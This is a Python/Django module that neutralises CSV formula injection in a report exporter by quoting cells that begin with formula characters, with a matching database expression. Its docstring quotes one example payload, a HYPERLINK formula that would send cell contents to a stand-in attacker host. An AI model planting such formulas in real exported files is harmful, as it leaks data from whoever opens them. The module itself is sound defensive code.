"""CSV cells a spreadsheet cannot run (PC-11; OWASP, "CSV Injection").

A spreadsheet reads a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so a legal
name such as `=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a link in a partner admin's report.
Such a cell is written with a single quote in front, as OWASP advises: the spreadsheet shows it as text.

Every CSV certlink writes goes through `safe_cell`. PostgreSQL's COPY writes the skills report's rows itself
(partners.report_csv), and `safe_cell_sql` is the same rule as a database expression, built from the same prefixes;
a test holds that both writers write the same bytes.
"""

from __future__ import annotations

from collections.abc import Iterable

from django.db.models import Case, CharField, Expression, Value, When
from django.db.models.functions import Concat, Left
from django.db.models.lookups import In

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def safe_cell(value: str) -> str:
    """The cell as a spreadsheet shows it as text: one check per cell, so a large report stays fast."""
    return QUOTE + value if value.startswith(FORMULA_STARTS) else value


def safe_row(values: Iterable[str]) -> list[str]:
    return [safe_cell(value) for value in values]


def safe_cell_sql(expression: Expression) -> Case:
    """`safe_cell` for a database that writes the CSV itself; NULL stays NULL."""
    text = CharField()
    return Case(
        When(In(Left(expression, 1), list(FORMULA_STARTS)), then=Concat(Value(QUOTE), expression, output_field=text)),
        default=expression,
        output_field=text,
    )


class Echo:
    """A file that hands back what is written to it, so csv.writer can feed a streamed response."""

    def write(self, value: str) -> str:
        return value
